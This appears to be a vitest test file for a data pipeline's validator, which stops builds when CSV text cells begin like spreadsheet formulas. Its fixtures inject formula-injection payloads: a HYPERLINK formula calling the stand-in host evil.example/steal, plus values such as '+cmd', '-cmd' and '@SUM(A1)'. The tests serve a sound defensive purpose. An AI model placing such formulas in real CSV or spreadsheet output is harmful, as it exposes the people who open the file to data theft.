import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { assertNoFormulaCells, findFormulaCells, locateText } from '../../../pipeline/05-validate/index.js';
import { projectPaths, type ProjectPaths } from '../../../pipeline/paths.js';
import { SchemaRegistry } from '../../../pipeline/schemas.js';
import { expectBuildFailure } from '../../helpers/expect-build-failure.js';
import { editRawText, makeProjectOf } from '../../helpers/fixture-project.js';

const schemas = new SchemaRegistry(projectPaths().schemas);
const HYPERLINK = '=HYPERLINK("http://evil.example/steal")';

/** The 1-based line and column where `text` starts in a fixture's file: config files move as they grow. */
function positionOf(fixture: ProjectPaths, file: string, text: string): { line: number; column: number } {
  const lines = readFileSync(join(fixture.root, file), 'utf8').split('\n');
  const line = lines.findIndex((candidate) => candidate.includes(text));
  if (line < 0) throw new Error(`${text} is not in ${file}`);
  return { line: line + 1, column: lines[line]!.indexOf(text) + 1 };
}

function editJson(paths: ProjectPaths, file: string, edit: (text: string) => string): void {
  const path = join(paths.root, file);
  const text = readFileSync(path, 'utf8');
  const edited = edit(text);
  if (edited === text) throw new Error('the edit changed nothing');
  writeFileSync(path, edited);
}

// Each build test breaks one source's files: the project is cut to that source (the build looks for formulas last).
describe('a text cell a spreadsheet would run as a formula', () => {
  it('stops the build when a printed row label is one, naming the raw text line, with dist/ untouched', () => {
    const error = expectBuildFailure(
      (paths) => editRawText(paths, 'korea-commission-2005', (text) => text.replace('Wholesale non-food products, including animal feed 39,543.1', `${HYPERLINK} non-food products 39,543.1`)),
      { code: 'CELL_FORMULA', file: 'raw/korea-commission-2005.txt', line: 1951, column: 1, seen: `${HYPERLINK} non-food products` },
      () => makeProjectOf('korea-commission-2005'),
    );
    expect(error.message).toContain('observations korea-commission-2005@');
  });

  it("stops the build when an annotation's event description is one, naming the annotation file and line", () => {
    const file = 'pipeline/02-extract/annotations/china-2023.json';
    const error = expectBuildFailure(
      (paths) => editJson(paths, file, (text) => text.replace('"description": "Mexico begins recognizing', `"description": ${JSON.stringify(`${HYPERLINK} Mexico begins recognizing`).slice(0, -1)}`)),
      (paths) => ({ code: 'CELL_FORMULA', file, ...positionOf(paths, file, '=HYPERLINK') }),
      () => makeProjectOf('china-2023'),
    );
    expect(error.context.seen).toMatch(/^=HYPERLINK\("http:\/\/evil\.example\/steal"\) Mexico begins/);
    expect(error.message).toContain('events china-2023@');
  });

  it("stops the build when a recipe's note starts with a tab and a formula, naming the recipe file and line", () => {
    const file = 'pipeline/02-extract/recipes/korea-commission-2005.json';
    const error = expectBuildFailure(
      (paths) => editJson(paths, file, (text) => text.replace('"note": "The Asia-Pacific region', '"note": "\\t@SUM(A1) The Asia-Pacific region')),
      (paths) => ({ code: 'CELL_FORMULA', file, ...positionOf(paths, file, '\\t@SUM') }),
      () => makeProjectOf('korea-commission-2005'),
    );
    expect(error.context.seen).toMatch(/^\t@SUM\(A1\) The Asia-Pacific region/);
  });
});

describe('findFormulaCells', () => {
  const observation = (raw: string, note: string | null = null) => ({ obs_id: 'x@1', source_id: 'x', raw, note, value: -5, line: 1 });
  const found = (rows: object[], name = 'observations') => findFormulaCells(schemas, new Map([[name, rows]])).map((cell) => `${cell.field}=${JSON.stringify(cell.text)}`);

  it('lets a signed number begin a text cell only in a column whose pattern declares numbers', () => {
    expect(found([observation('-621.5'), observation('+12,444'), observation('1,060.6'), observation('one-third')])).toEqual([]);
    expect(found([observation('-621.5', '-621.5')])).toEqual(['note="-621.5"']);
    expect(found([observation('-1+1'), observation('-cmd')])).toEqual(['raw="-1+1"', 'raw="-cmd"']);
  });

  it('flags every formula start in any text field, and no number field', () => {
    const starts = ['=1+1', '+cmd', '-cmd', '@SUM(A1)', '\tx', '\rx'];
    expect(found(starts.map((start) => observation('5', start)))).toEqual(starts.map((start) => `note=${JSON.stringify(start)}`));
    expect(found([{ id: 'x', label: 'Trade, share', description: 'a − b = c' }], 'indicators')).toEqual([]);
  });
});

describe('assertNoFormulaCells', () => {
  it('names the CSV record the cell would be written to when no input holds its words', () => {
    const rows = [{ obs_id: 'x@1', raw: '5', note: null }, { obs_id: 'x@2', raw: '6', note: '=1+1' }];
    expect(() => assertNoFormulaCells(schemas, new Map([['observations', rows]]), () => [])).toThrow(
      expect.objectContaining({ code: 'CELL_FORMULA', context: expect.objectContaining({ file: 'dist/observations.csv', line: 3, seen: '=1+1' }) }),
    );
  });
});

describe('locateText', () => {
  const inputs = [
    { file: 'raw/a.txt', lines: ['intro', 'see =X(1) here'] },
    { file: 'raw/b.txt', lines: ['=X(1) label 4.5'] },
    { file: 'pipeline/02-extract/annotations/a.json', lines: ['{', '  "description": "=Y(\\"q\\") more"', '}'] },
  ];

  it("finds a printed word at a word start, in the row's own source first", () => {
    expect(locateText('=X(1) label', inputs, 'b')).toEqual({ file: 'raw/b.txt', line: 1, column: 1 });
    expect(locateText('=X(1) label', inputs, 'a')).toEqual({ file: 'raw/a.txt', line: 2, column: 5 });
  });

  it('finds words written in a JSON input as the start of a string literal', () => {
    expect(locateText('=Y("q") more', inputs, 'a')).toEqual({ file: 'pipeline/02-extract/annotations/a.json', line: 2, column: 19 });
    expect(locateText('=Z', inputs, null)).toBeNull();
  });
});
